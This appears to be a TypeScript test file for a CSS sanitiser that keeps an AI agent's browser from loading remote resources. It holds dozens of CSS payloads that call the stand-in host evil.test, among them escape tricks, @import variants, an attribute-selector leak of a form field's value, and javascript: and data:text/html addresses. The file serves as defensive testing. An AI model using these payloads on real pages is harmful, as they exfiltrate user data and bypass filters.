// Style sheets, tamed: nothing in them makes the agent's browser load anything (leaks.md, RP-12 and RP-14).

import { describe, expect, it } from "vitest";
import { isHarmless, MAX_ADDRESS, tameDeclarations, tameSheet } from "../../src/view/css";

/** Every form in which CSS names an address, each with the canary's host. */
const LOADS: readonly (readonly [string, string])[] = [
  ["url without quotes", "a { background: url(//evil.test/x) }"],
  ["url in quotes", "a { background: url('//evil.test/x') }"],
  ["upper case", "a { background: URL(//evil.test/x) }"],
  ["an escape in the name", "a { background: u\\72l(//evil.test/x) }"],
  ["an escape with a space", "a { background: \\000075 rl(//evil.test/x) }"],
  ["an escape in the address", "a { background: url(\\2f/evil.test/x) }"],
  ["white space inside", "a { background: url(  \n //evil.test/x ) }"],
  ["a URL that is not closed", "a { background: url(//evil.test/x"],
  ["a string that is not closed", 'a { background: url("//evil.test/x'],
  ["modifiers", 'a { background: url("//evil.test/x" crossorigin(anonymous)) }'],
  ["src()", 'a { background: src("//evil.test/x") }'],
  ["image-set with a string", 'a { background: image-set("//evil.test/x" 1x) }'],
  ["-webkit-image-set", 'a { background: -webkit-image-set("//evil.test/x" 1x) }'],
  ["image-set inside image-set", 'a { background: image-set(image-set("//evil.test/x" 1x) 1x) }'],
  ["image()", 'a { background: image("//evil.test/x") }'],
  ["cross-fade", "a { background: cross-fade(url(//evil.test/x), url(//evil.test/y)) }"],
  ["@import with a string", '@import "//evil.test/x";'],
  ["@import with url()", "@import url(//evil.test/x) screen;"],
  ["@import with an escape", '@\\69mport "//evil.test/x";'],
  ["@import with a layer", '@import url("//evil.test/x") layer(a) supports(display: grid);'],
  ["@import that is not closed", '@import "//evil.test/x'],
  ["@namespace", '@namespace svg url("//evil.test/x");'],
  ["a font", '@font-face { font-family: f; src: url("//evil.test/x") format("woff2") }'],
  ["a cursor", "a { cursor: url(//evil.test/x), auto }"],
  ["a list's marker", "li { list-style: square url(//evil.test/x) }"],
  ["content", "a::before { content: url(//evil.test/x) }"],
  ["a filter of another document", "a { filter: url(//evil.test/x#f) }"],
  ["a border image", "a { border-image: url(//evil.test/x) 30 }"],
  ["a shape", "a { shape-outside: url(//evil.test/x) }"],
  ["an offset path", "a { offset-path: url(//evil.test/x) }"],
  ["a variable", "a { --x: url(//evil.test/x); background: var(--x) }"],
  [
    "a registered property",
    '@property --x { syntax: "<image>"; inherits: false; initial-value: url(//evil.test/x) }',
  ],
  ["in a media rule", "@media screen { a { background: url(//evil.test/x) } }"],
  ["in a nested rule", "a { & b { background: url(//evil.test/x) } }"],
  ["by what a field holds (RP-14)", 'input[value^="4"] { background: url(//evil.test/4) }'],
  ["-moz-binding", "a { -moz-binding: url(//evil.test/x#b) }"],
  ["behavior", "a { behavior: url(//evil.test/x) }"],
  ["@document", "@document url(//evil.test/x) { a { color: red } }"],
  ["data of a page", 'a { background: url("data:text/html,//evil.test/x") }'],
];

describe("whatever loads is taken out", () => {
  it.each(LOADS)("%s", (_, css) => {
    expect(tameSheet(css)).not.toMatch(/evil/);
    expect(tameDeclarations(css)).not.toMatch(/evil/);
  });

  it("leaves no address that is put together from elsewhere", () => {
    expect(tameSheet("a { --x: '//evil.test/x'; background: src(var(--x)) }")).not.toContain("src(");
  });

  it("leaves no string of an image-set that is put together from elsewhere", () => {
    const css = tameSheet('a { --x: "//evil.test/x"; background: image-set(var(--x) 1x) }');

    expect(css).not.toContain("image-set(");
  });

  it("leaves nothing of an image-set that a function of the sheet's own completes", () => {
    const css = tameSheet(
      '@function --f() { result: "//evil.test/x" } a { background: image-set(--f() 1x) }',
    );

    expect(css).not.toContain("image-set(");
  });
});

describe("whatever is harmless stays", () => {
  it.each([
    ["colours and sizes", "a { color: #123456; width: calc(100% - 2px) }"],
    ["variables", "a { --gap: 4px; margin: var(--gap) }"],
    ["media rules", "@media (min-width: 600px) { a { display: grid } }"],
    ["layers", "@layer base { a { color: red } }"],
    ["attribute selectors", 'a[data-state="open"] { color: red }'],
    ["text of its own", 'a::before { content: "\u2192 next" }'],
  ])("%s", (_, css) => {
    expect(tameSheet(css)).toBe(`/**/${css}/**/`);
  });

  it("keeps a picture that is in the sheet itself", () => {
    const css = 'a { background: url("data:image/png;base64,iVBORw0KGgo=") }';

    expect(tameSheet(css)).toBe(`/**/${css}/**/`);
  });

  it.each(["font/woff2", "font/woff", "font/ttf", "font/otf"])(
    "keeps a font that is in the sheet itself: %s",
    (type) => {
      const css = `@font-face { font-family: f; src: url("data:${type};base64,d09GMg==") format("woff2") }`;

      expect(tameSheet(css)).toBe(`/**/${css}/**/`);
    },
  );

  it("keeps data of a bounded length only", () => {
    const sized = (length: number) => `url("${"data:image/png;base64,".padEnd(length, "A")}")`;

    expect(tameDeclarations(`background: ${sized(MAX_ADDRESS)}`)).toBe(`background: ${sized(MAX_ADDRESS)}`);
    expect(tameDeclarations(`background: ${sized(MAX_ADDRESS + 1)}`)).toBe('background: url("data:,")');
  });

  it("keeps what is on the page itself", () => {
    expect(tameDeclarations("fill: url(#gradient)")).toBe('fill: url("#gradient")');
  });
});

describe("pieces of a sheet, put side by side, load nothing that neither loads", () => {
  const PIECES: readonly (readonly [string, string])[] = [
    ["a { background: u", "rl(//evil.test/x) }"],
    ["a { background: url(", "//evil.test/x) }"],
    ['a { background: url("', '//evil.test/x") }'],
    ["@im", 'port "//evil.test/x";'],
    ["@import ", '"//evil.test/x";'],
    ["a { background: image-set(", '"//evil.test/x" 1x) }'],
    ["a { background: url(/*", "*/ //evil.test/x) }"],
    ["a { background: u\\", "72l(//evil.test/x) }"],
  ];

  it.each(PIECES)("%s + %s", (first, second) => {
    const joined = tameSheet(first) + tameSheet(second);

    const again = tameSheet(joined);
    const isAddress = /url\(\s*["']?\/\/evil|src\(\s*["']|image-set\(\s*["']\/\/evil|@import/i;
    expect(joined).not.toMatch(isAddress);
    expect(again).not.toMatch(isAddress);
  });
});

describe("addresses", () => {
  it.each([
    "data:image/png;base64,AA==",
    "data:image/svg+xml,%3Csvg/%3E",
    "data:font/woff2;base64,AA==",
    "#part",
  ])("%s stays", (address) => {
    expect(isHarmless(address)).toBe(true);
  });

  it.each([
    "https://evil.test/x.png",
    "//evil.test/x.png",
    "x.png",
    "javascript:alert(1)",
    "data:text/html,<script>1</script>",
    " data:image/png,",
    "blob:https://evil.test/1",
    "#a b",
    "",
  ])("%s goes", (address) => {
    expect(isHarmless(address)).toBe(false);
  });
});
